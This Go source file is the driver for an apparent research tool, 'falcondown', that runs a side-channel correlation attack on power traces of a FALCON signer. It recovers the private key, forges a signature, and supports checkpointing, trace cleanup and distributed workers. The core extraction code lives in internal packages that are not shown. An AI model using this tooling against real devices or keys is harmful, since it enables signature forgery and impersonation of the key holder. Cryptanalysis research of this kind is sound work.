// Command attack runs the Falcon-Down key extraction on a trace corpus
// produced by cmd/tracegen, reconstructs the full signing key from the
// victim's public key, and demonstrates the break by forging a signature.
//
// The corpus is streamed from disk — shards are swept a bounded number of
// times and never loaded whole, so corpora far larger than memory work
// unchanged. Both the sharded v2 format and legacy single-file "FDTR"
// captures are accepted; -traces may name a file, a shard glob, or a
// directory of shards.
//
// Robustness:
//
//   - -lenient opens a damaged corpus in degraded mode: chunks that fail
//     their checksum are quarantined (identically on every pass) and the
//     attack runs on what survives, with the loss reported up front.
//   - -resume checkpoints the attack state to a sidecar (<traces>.ckpt)
//     after each completed phase; a killed run restarted with -resume
//     continues from the last completed phase instead of re-sweeping.
//   - a failed recovery prints the partial report — which of the 2·(n/2)
//     values failed and why — rather than a bare error.
//   - -trim/-resync/-winsorize harden the CPA against dirty corpora
//     (glitched, desynchronized or saturated traces from a misbehaving
//     bench): energy outliers are dropped, traces re-aligned by
//     cross-correlation and samples clamped to per-point bands before
//     correlating. The preprocessing plan is derived once and pinned, so
//     -resume stays byte-deterministic.
//
// Exit codes: 0 success, 1 generic failure, 2 malformed corpus,
// 3 recovery failed (traces readable but the key could not be
// established).
//
// Usage:
//
//	attack -traces traces.fdt2 -pub victim.pub -msg "arbitrary text"
//	attack -traces traces.fdt2 -pub victim.pub -resume -lenient
package main

import (
	"errors"
	"flag"
	"fmt"
	"math/bits"
	"net"
	"net/http"
	"os"
	"strings"

	"falcondown/internal/cluster"
	"falcondown/internal/codec"
	"falcondown/internal/core"
	"falcondown/internal/falcon"
	"falcondown/internal/obs"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// Exit codes for scripted pipelines.
const (
	exitGeneric        = 1
	exitMalformedInput = 2
	exitRecoveryFailed = 3
)

func main() {
	tracePath := flag.String("traces", "traces.fdt2", "trace corpus from tracegen (file, shard glob, or directory)")
	pubPath := flag.String("pub", "victim.pub", "victim public key")
	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
	sigOut := flag.String("sig", "forged.sig", "forged signature output")
	lenient := flag.Bool("lenient", false, "tolerate corpus damage: quarantine bad chunks and attack what survives")
	resume := flag.Bool("resume", false, "checkpoint attack phases to a sidecar and resume a killed run from the last completed phase")
	trim := flag.Float64("trim", 0, "drop traces whose RMS energy sits this many robust sigmas from the corpus median (0 = off)")
	resync := flag.Int("resync", 0, "re-align traces by cross-correlation within ± this many samples (0 = off)")
	winsorize := flag.Float64("winsorize", 0, "clamp samples to mean ± this many sigmas per sample point before correlating (0 = off)")
	workers := flag.Int("workers", 0, "parallel attack workers (0 = GOMAXPROCS); recovered key and checkpoints are bit-identical for any value")
	keyOut := flag.String("key", "", "also dump the recovered (f, g) pair as canonical JSON to this path (byte-comparable with the campaign server's key endpoint)")
	clusterURLs := flag.String("cluster", "", "comma-separated clusterd worker URLs; corpus sweeps fan out to the fleet, falling back to local compute if it dies (result is byte-identical either way)")
	clusterCorpus := flag.String("cluster-corpus", "", "corpus name as the workers resolve it under their -root (default: the -traces path)")
	blobAddr := flag.String("blob-addr", "", "serve this corpus's shards by content digest on this address (enables fleet shard push: a worker with a divergent replica repairs itself, a diskless worker joins cold)")
	crossCheck := flag.Float64("crosscheck", 0, "fraction of fleet tasks double-issued to two workers and compared bit-for-bit; a node contradicting the recomputed truth is quarantined (0 = off, 1 = every task)")
	metricsAddr := flag.String("metrics-addr", "", "serve GET /metrics (Prometheus text) and /metricsz (JSON) on this address for the duration of the run")
	obsJSON := flag.String("obs-json", "", "write an end-of-run flight record (metric snapshot + build identity) to this path, on success or failure")
	pprofOn := flag.Bool("pprof", false, "with -metrics-addr: also mount net/http/pprof under /debug/pprof/")
	verbose := flag.Bool("v", false, "verbose logging (debug level)")
	quiet := flag.Bool("q", false, "quiet logging (warnings and errors only)")
	flag.Parse()

	logger := obs.NewLogger("attack")
	logger.SetLevel(obs.LevelFromFlags(*verbose, *quiet))

	// exit writes the flight record (if asked for) before terminating —
	// os.Exit skips defers, and a failed recovery's metrics are exactly
	// the ones worth keeping.
	exit := func(code int) {
		if *obsJSON != "" {
			if err := obs.Default().WriteFlightRecord("attack", *obsJSON); err != nil {
				logger.Warnf("flight record: %v", err)
			} else {
				logger.Infof("flight record -> %s", *obsJSON)
			}
		}
		os.Exit(code)
	}

	if *metricsAddr != "" {
		ln, err := net.Listen("tcp", *metricsAddr)
		if err != nil {
			fmt.Fprintln(os.Stderr, "attack: -metrics-addr:", err)
			exit(exitGeneric)
		}
		mux := http.NewServeMux()
		obs.Default().Mount(mux, "attack", *pprofOn)
		go http.Serve(ln, mux)
		logger.Infof("metrics on http://%s/metrics", ln.Addr())
	}

	w, err := core.ValidateWorkers(*workers)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack: bad -workers:", err)
		exit(exitGeneric)
	}
	cfg := core.Config{
		Robust:  core.RobustConfig{TrimSigmas: *trim, ResyncShift: *resync, Winsorize: *winsorize},
		Workers: w,
	}
	var dist core.Distributor
	var coord *cluster.Coordinator
	if *clusterURLs != "" {
		corpus := *clusterCorpus
		if corpus == "" {
			corpus = *tracePath
		}
		opts := cluster.Options{
			Workers:    strings.Split(*clusterURLs, ","),
			Corpus:     corpus,
			CrossCheck: *crossCheck,
		}
		if *blobAddr != "" {
			url, err := serveBlobs(*blobAddr, *tracePath)
			if err != nil {
				fmt.Fprintln(os.Stderr, "attack: blob service:", err)
				exit(exitGeneric)
			}
			fmt.Printf("serving authoritative shards at %s/blob/\n", url)
			opts.BlobURL = url
		}
		coord = cluster.New(opts)
		dist = coord
	}
	if err := run(*tracePath, *pubPath, *msg, *sigOut, *keyOut, *lenient, *resume, cfg, dist); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		switch {
		case errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum):
			exit(exitMalformedInput)
		case errors.Is(err, core.ErrImplausibleKey) || errors.Is(err, core.ErrCheckpointMismatch):
			exit(exitRecoveryFailed)
		}
		exit(exitGeneric)
	}
	if coord != nil {
		fmt.Printf("fleet report: %s\n", coord.Report())
		if q := coord.Quarantined(); len(q) > 0 {
			fmt.Printf("quarantined node(s): %s\n", strings.Join(q, ", "))
		}
	}
	exit(0)
}

// serveBlobs opens the corpus a second read-only time, registers its
// shards with a blob service and serves it in the background for the
// fleet; the returned base URL goes into the coordinator's task requests.
func serveBlobs(addr, tracePath string) (string, error) {
	corpus, err := tracestore.Open(tracePath)
	if err != nil {
		return "", err
	}
	blobs := cluster.NewBlobServer()
	if err := blobs.Register(corpus); err != nil {
		return "", err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", err
	}
	go http.Serve(ln, blobs.Handler())
	return "http://" + ln.Addr().String(), nil
}

func run(tracePath, pubPath, msg, sigOut, keyOut string, lenient, resume bool, cfg core.Config, dist core.Distributor) error {
	var corpus *tracestore.Corpus
	var err error
	if lenient {
		var health *tracestore.CorpusHealth
		corpus, health, err = tracestore.OpenLenient(tracePath)
		if err != nil {
			return err
		}
		fmt.Println(health)
		for _, q := range health.Quarantined {
			fmt.Printf("  quarantined: shard %s chunk %d at offset %d (%d observations): %s\n",
				q.Shard, q.Chunk, q.Offset, q.Observations, q.Reason)
		}
	} else {
		corpus, err = tracestore.Open(tracePath)
		if err != nil {
			if errors.Is(err, tracestore.ErrBadFormat) || errors.Is(err, tracestore.ErrChecksum) {
				return fmt.Errorf("%w (retry with -lenient to quarantine the damage and attack what survives)", err)
			}
			return err
		}
	}
	n := corpus.N()
	fmt.Printf("opened corpus of %d traces of a FALCON-%d victim (%d shard(s))\n",
		corpus.Count(), n, corpus.Shards())

	pb, err := os.ReadFile(pubPath)
	if err != nil {
		return err
	}
	logn := bits.Len(uint(n)) - 1
	h, err := codec.DecodePublicKey(pb, logn)
	if err != nil {
		return err
	}
	params, err := falcon.ParamsForDegree(n)
	if err != nil {
		return err
	}
	pub := &falcon.PublicKey{Params: params, H: h}

	var store core.CheckpointStore
	var sidecar *core.FileCheckpoint
	if resume {
		sidecar = &core.FileCheckpoint{Path: tracePath + ".ckpt"}
		store = sidecar
		if ck, err := sidecar.Load(); err == nil && ck != nil {
			fmt.Printf("resuming from checkpoint: phase %q already complete\n", ck.Stage)
		}
	}

	if cfg.Robust.Enabled() {
		fmt.Printf("dirty-trace hardening on: trim %gσ, resync ±%d, winsorize %gσ\n",
			cfg.Robust.TrimSigmas, cfg.Robust.ResyncShift, cfg.Robust.Winsorize)
	}
	fmt.Println("running streamed divide-and-conquer extend-and-prune extraction...")
	var src core.Source = corpus
	if dist != nil {
		fmt.Println("corpus sweeps distributed over the worker fleet")
		src = core.WithDistributor(corpus, dist)
	}
	priv, report, err := core.RecoverKeyResumable(src, pub, cfg, store)
	if err != nil {
		printPartialReport(report)
		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
	}
	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
		len(report.Values), len(report.Values), report.MinPrune, report.Significant)
	if len(report.Corrected) > 0 {
		fmt.Printf("exponent error-correction repaired value(s) %v\n", report.Corrected)
	}
	if sidecar != nil {
		if err := sidecar.Remove(); err != nil {
			fmt.Fprintf(os.Stderr, "attack: warning: could not remove checkpoint sidecar: %v\n", err)
		}
	}
	if keyOut != "" {
		if err := os.WriteFile(keyOut, core.KeyJSON(report.F, report.G), 0o644); err != nil {
			return err
		}
		fmt.Printf("recovered key (f, g) -> %s\n", keyOut)
	}

	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
	if err != nil {
		return err
	}
	if err := pub.Verify([]byte(msg), sig); err != nil {
		return fmt.Errorf("forged signature did not verify: %w", err)
	}
	enc, err := sig.Encode(logn, params.SigByteLen)
	if err != nil {
		return err
	}
	if err := os.WriteFile(sigOut, enc, 0o644); err != nil {
		return err
	}
	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
	return nil
}

// printPartialReport shows how far a failed recovery got and which values
// are to blame, so a failed run is actionable (acquire more traces, raise
// the beam, salvage the corpus) rather than opaque.
func printPartialReport(report *core.RecoveryReport) {
	if report == nil {
		return
	}
	fmt.Printf("partial recovery report: %d values extracted, weakest prune correlation %.3f, all significant: %v\n",
		len(report.Values), report.MinPrune, report.Significant)
	if report.CorrectionCapped {
		fmt.Println("  exponent error-correction search was truncated at its candidate cap; more tie families existed than were tried")
	}
	if len(report.Failed) == 0 {
		fmt.Println("  no value failed its statistics; the corpus itself is the prime suspect")
		return
	}
	fmt.Printf("  %d value(s) could not be established:\n", len(report.Failed))
	for _, f := range report.Failed {
		fmt.Printf("    %s\n", f)
	}
}
